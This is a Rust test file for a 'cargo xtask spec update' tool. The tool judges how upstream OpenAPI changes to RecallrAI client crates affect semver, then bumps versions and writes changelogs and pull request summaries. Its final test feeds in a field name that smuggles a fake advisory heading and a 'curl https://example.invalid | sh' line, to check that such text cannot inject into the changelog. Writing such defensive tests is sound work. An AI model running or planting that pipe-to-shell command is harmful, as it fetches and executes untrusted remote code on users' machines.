//! What `cargo xtask spec update` judges an upstream change to cost a Rust
//! user, and the release it makes of it, on copies of the vendor's document.
//!
//! The table of expected judgements runs in process with the fallback judge
//! (the spec diff and the generated item names), which builds nothing; the
//! version bumps, the changelog and the pull request summary run the binary
//! with `--no-semver-checks` on a copy holding the manifests. One test runs
//! cargo-semver-checks itself on a full copy of the workspace: it is skipped,
//! saying so, where the tool is not installed, unless
//! `RECALLR_REQUIRE_SEMVER_CHECKS` is set (CI sets it).

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::{MANIFESTS, TempWorkspace as Workspace, serve};
use xtask::paths::Workspace as Layout;
use xtask::spec_update::semver::{self, Level};
use xtask::spec_update::{self, Options, release};

const LIST: &str = "/api/v1/users/{custom_user_id}/sessions";

/// The fallback judgement of updating `workspace` to `from`, in process.
fn judge(workspace: &Workspace, from: &Path) -> (spec_update::Plan, Level) {
    let options = Options {
        from: from.display().to_string(),
        keep: None,
        timeout: Duration::from_secs(5),
    };
    let plan = spec_update::plan(&options, &workspace.layout()).expect("plans");
    let level = semver::fallback(&plan).expect("judges");
    (plan, level)
}

fn session_info(document: &mut Value) -> &mut serde_json::Map<String, Value> {
    document["components"]["schemas"]["SessionInfo"]["properties"]
        .as_object_mut()
        .expect("SessionInfo's properties")
}

fn add_field(document: &mut Value) {
    session_info(document).insert("plan".into(), json!({"type": "string", "title": "Plan"}));
}

fn remove_field(document: &mut Value) {
    session_info(document).remove("session_summary");
}

/// Renames a component, references included.
fn rename_component(document: &mut Value, from: &str, to: &str) {
    let text = document.to_string().replace(
        &format!("\"#/components/schemas/{from}\""),
        &format!("\"#/components/schemas/{to}\""),
    );
    *document = serde_json::from_str(&text).expect("JSON");
    let schemas = document["components"]["schemas"]
        .as_object_mut()
        .expect("schemas");
    let schema = schemas.remove(from).expect("the component");
    schemas.insert(to.to_string(), schema);
}

/// `name`'s committed version, and the one after it for `level`.
fn versions(name: &str, level: Level) -> (String, String) {
    let path = Layout::current()
        .root
        .join(format!("crates/{name}/Cargo.toml"));
    let manifest = std::fs::read_to_string(path).expect("readable");
    let current = release::package_version(&manifest).expect("a version");
    let next = release::next_version(&current, level).expect("bumps");
    (current, next)
}

fn last_line(stdout: &str) -> &str {
    stdout.lines().last().unwrap_or_default()
}

#[test]
fn the_expected_judgements_of_upstream_changes() {
    type Edit = fn(&mut Value);
    let cases: [(&str, Edit, Level); 7] = [
        ("a new optional response field", add_field, Level::Additive),
        (
            "a new status value",
            |document| {
                document["components"]["schemas"]["ProjectUserSessionStatus"]["enum"]
                    .as_array_mut()
                    .expect("the status values")
                    .push(json!("archived"))
            },
            Level::Additive,
        ),
        (
            "a new optional query parameter",
            |document| {
                document["paths"][LIST]["get"]["parameters"]
                    .as_array_mut()
                    .expect("parameters")
                    .push(json!({
                        "name": "order", "in": "query", "required": false,
                        "schema": {"type": "string", "title": "Order"}
                    }))
            },
            Level::Additive,
        ),
        ("a removed response field", remove_field, Level::Breaking),
        (
            // The overlay keeps `metadata` required, so its field stays but
            // its type changes (a map becomes any JSON value).
            "a removed response field the overlay keeps required",
            |document| {
                session_info(document).remove("metadata");
            },
            Level::Breaking,
        ),
        (
            // Every component of the vendor's document is pinned by role.
            "a renamed type the overlay pins by role (SessionMemory)",
            |document| rename_component(document, "SessionMemory", "SessionMemoryItem"),
            Level::None,
        ),
        (
            "a renamed type the overlay pins (SessionList)",
            |document| rename_component(document, "SessionListResponse", "SessionsPage"),
            Level::None,
        ),
    ];
    for (name, edit, expected) in cases {
        let workspace = Workspace::with_manifests();
        let from = workspace.changed_upstream(edit);
        let (plan, level) = judge(&workspace, &from);
        assert!(!plan.unchanged, "{name}: the document did change");
        assert_eq!(level, expected, "{name}: {:#?}", plan.changes);
    }
}

#[test]
fn reformatting_and_reordering_is_none_and_writes_nothing() {
    let workspace = Workspace::with_manifests();
    let before: Vec<String> = MANIFESTS.iter().map(|file| workspace.read(file)).collect();
    let mut document: Value =
        serde_json::from_str(&workspace.read("openapi/upstream.json")).expect("JSON");
    // Reordered: the schemas in reverse; reformatted: compact.
    let schemas = document["components"]["schemas"]
        .as_object()
        .expect("schemas");
    let reversed: serde_json::Map<String, Value> = schemas
        .iter()
        .rev()
        .map(|(key, value)| (key.clone(), value.clone()))
        .collect();
    document["components"]["schemas"] = Value::Object(reversed);
    let from = workspace.dir.path().join("new-upstream.json");
    std::fs::write(&from, serde_json::to_vec(&document).expect("serializes")).expect("writable");
    let (plan, level) = judge(&workspace, &from);
    assert!(plan.unchanged && level == Level::None);
    let stdout = workspace.update_ok(&from, &[]);
    assert!(stdout.contains("no change"), "{stdout}");
    assert_eq!(last_line(&stdout), "semver: none");
    let after: Vec<String> = MANIFESTS.iter().map(|file| workspace.read(file)).collect();
    assert_eq!(before, after);
    assert!(!workspace.dir.path().join("CHANGELOG.md").exists());
}

#[test]
fn an_additive_update_is_a_patch_release_with_a_changelog_entry() {
    let workspace = Workspace::with_manifests();
    let from = workspace.changed_upstream(add_field);
    let stdout = workspace.update_ok(&from, &["--no-semver-checks"]);
    assert_eq!(last_line(&stdout), "semver: additive", "{stdout}");
    assert!(
        stdout.contains("--no-semver-checks: judged from the spec diff"),
        "{stdout}"
    );
    let mut heading = Vec::new();
    for name in ["recallr-api", "recallr-ext", "recallr-stub"] {
        let (current, next) = versions(name, Level::Additive);
        heading.push(format!("{name} {next}"));
        assert!(
            stdout.contains(&format!("bump {name} {current} -> {next}")),
            "{stdout}"
        );
        let manifest = workspace.read(format!("crates/{name}/Cargo.toml"));
        assert!(
            manifest.contains(&format!("\nversion = \"{next}\"\n")),
            "{manifest}"
        );
        assert!(
            workspace
                .read("Cargo.lock")
                .contains(&format!("name = \"{name}\"\nversion = \"{next}\"\n")),
            "{name} in Cargo.lock"
        );
        assert!(
            workspace.read("Cargo.toml").contains(&format!(
                "{name} = {{ path = \"crates/{name}\", version = \"{next}\" }}"
            )),
            "{name} in the root manifest"
        );
    }
    let changelog = workspace.read("CHANGELOG.md");
    assert!(
        changelog.contains(&format!(
            "## [Unreleased]\n\n## [{}] - ",
            heading.join(", ")
        )),
        "{changelog}"
    );
    assert!(
        changelog.contains("### Added\n\n- `plan` in component `SessionInfo` was added"),
        "{changelog}"
    );
    assert!(
        changelog.contains("(judged by the spec diff)"),
        "{changelog}"
    );
    // The release is part of the update: the same document again writes nothing.
    let stdout = workspace.update_ok(&from, &["--no-semver-checks"]);
    assert!(stdout.contains("no change"), "{stdout}");
    assert_eq!(workspace.read("CHANGELOG.md"), changelog);
}

#[test]
fn dry_run_judges_and_prints_and_writes_nothing() {
    let workspace = Workspace::with_manifests();
    let before: Vec<String> = MANIFESTS.iter().map(|file| workspace.read(file)).collect();
    let from = workspace.changed_upstream(remove_field);
    let stdout = workspace.update_ok(&from, &["--dry-run", "--no-semver-checks"]);
    let (current, next) = versions("recallr-api", Level::Breaking);
    assert!(
        stdout.contains(&format!("bump recallr-api {current} -> {next}")),
        "{stdout}"
    );
    assert!(stdout.contains("dry run: nothing written"), "{stdout}");
    assert_eq!(last_line(&stdout), "semver: breaking");
    let after: Vec<String> = MANIFESTS.iter().map(|file| workspace.read(file)).collect();
    assert_eq!(before, after);
    assert!(!workspace.dir.path().join("CHANGELOG.md").exists());
}

#[test]
fn without_cargo_semver_checks_the_update_says_so_and_falls_back() {
    let workspace = Workspace::with_manifests();
    let from = workspace.changed_upstream(add_field);
    let missing = workspace.dir.path().join("no-such-tool");
    let output = workspace.update_env(
        &from,
        &["--dry-run"],
        &[("CARGO_SEMVER_CHECKS", missing.to_str().expect("UTF-8"))],
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{stdout}");
    assert!(
        stdout.contains("cargo-semver-checks is not installed at")
            && stdout.contains("cargo install --locked cargo-semver-checks --version 0.51.0")
            && stdout.contains(
                "judged from the spec diff and the generated item names instead (fallback)"
            ),
        "{stdout}"
    );
    assert_eq!(last_line(&stdout), "semver: additive");
}

#[test]
fn the_pull_request_of_a_breaking_update_served_over_http() {
    let workspace = Workspace::with_manifests();
    let from = workspace.changed_upstream(remove_field);
    let url = serve("200 OK", std::fs::read(&from).expect("readable"), 1);
    let summary = workspace.dir.path().join("pr");
    let summary_arg = summary.display().to_string();
    let stdout = workspace.update_ok(&url, &["--no-semver-checks", "--pr-summary", &summary_arg]);
    let read = |name: &str| std::fs::read_to_string(summary.join(name)).expect("written");
    let bumped: Vec<String> = ["recallr-api", "recallr-ext", "recallr-stub"]
        .iter()
        .map(|name| format!("{name} {}", versions(name, Level::Breaking).1))
        .collect();
    assert_eq!(
        read("title"),
        format!(
            "BREAKING: Sync the RecallrAI OpenAPI spec: {} (semver: breaking)\n",
            bumped.join(", ")
        )
    );
    assert_eq!(read("label"), "semver: breaking\n");
    let body = read("body.md");
    assert!(
        body.contains(&format!("```text\n{}\n```", stdout.trim_end())),
        "{body}"
    );
    assert!(
        body.contains("response-property-removed") && body.contains(&url),
        "{body}"
    );
    let changelog = workspace.read("CHANGELOG.md");
    assert!(
        changelog.contains(
            "### Removed\n\n- **Breaking:** `session_summary` in component `SessionInfo`"
        ),
        "{changelog}"
    );
}

#[test]
fn cargo_semver_checks_judges_a_workspace_copy() {
    if let Err(reason) = semver::find_tool() {
        assert!(
            std::env::var_os("RECALLR_REQUIRE_SEMVER_CHECKS").is_none(),
            "RECALLR_REQUIRE_SEMVER_CHECKS is set, but {reason}"
        );
        eprintln!("skipped: {reason}");
        return;
    }
    // Dependencies built once in the test's own target directory; never the
    // network (the baseline's placeholder crate resolves from the cache).
    let exe = PathBuf::from(env!("CARGO_BIN_EXE_xtask"));
    let target = exe
        .parent()
        .and_then(Path::parent)
        .expect("the target directory")
        .to_path_buf();
    let env = [
        ("CARGO_TARGET_DIR", target.to_str().expect("UTF-8")),
        ("CARGO_NET_OFFLINE", "true"),
    ];
    let workspace = Workspace::full();
    for (edit, level, api_says) in [
        (
            remove_field as fn(&mut Value),
            Level::Breaking,
            "cargo-semver-checks: semver requires new major version",
        ),
        (
            add_field,
            Level::Additive,
            "cargo-semver-checks: no semver update required",
        ),
    ] {
        let (current, next) = versions("recallr-api", level);
        let level = level.as_str();
        let from = workspace.changed_upstream(edit);
        let stdout = workspace.update_ok_env(&from, &["--dry-run"], &env);
        assert!(stdout.contains("judged by cargo-semver-checks"), "{stdout}");
        let api = stdout
            .lines()
            .find(|line| line.trim_start().starts_with("recallr-api "))
            .unwrap_or_default();
        assert!(api.contains(level) && api.contains(api_says), "{stdout}");
        let ext = stdout
            .lines()
            .find(|line| line.trim_start().starts_with("recallr-ext "))
            .unwrap_or_default();
        assert!(ext.contains(level), "{stdout}");
        assert!(
            stdout.contains(&format!("bump recallr-api {current} -> {next}")),
            "{stdout}"
        );
        assert_eq!(last_line(&stdout), format!("semver: {level}"));
    }
}

#[test]
fn document_text_cannot_write_lines_into_the_changelog_or_the_report() {
    let workspace = Workspace::with_manifests();
    let hostile = "evil`\n\n## 9.9.9 - advisory\n\nRun `curl https://example.invalid | sh`\n<!--";
    let from = workspace.changed_upstream(|document| {
        session_info(document).insert(hostile.to_string(), json!({"type": "string"}));
    });
    let stdout = workspace.update_ok(&from, &["--no-semver-checks"]);
    let changelog = workspace.read("CHANGELOG.md");
    for text in [&changelog, &stdout] {
        assert!(
            !text
                .lines()
                .any(|line| line.starts_with("## 9.9.9") || line.starts_with("Run `curl")),
            "{text}"
        );
        assert!(!text.contains("\n<!--"), "{text}");
    }
    assert!(!changelog.contains("<!--"), "{changelog}");
    assert!(changelog.contains("evil`\\n\\n## 9.9.9"), "{changelog}");
}
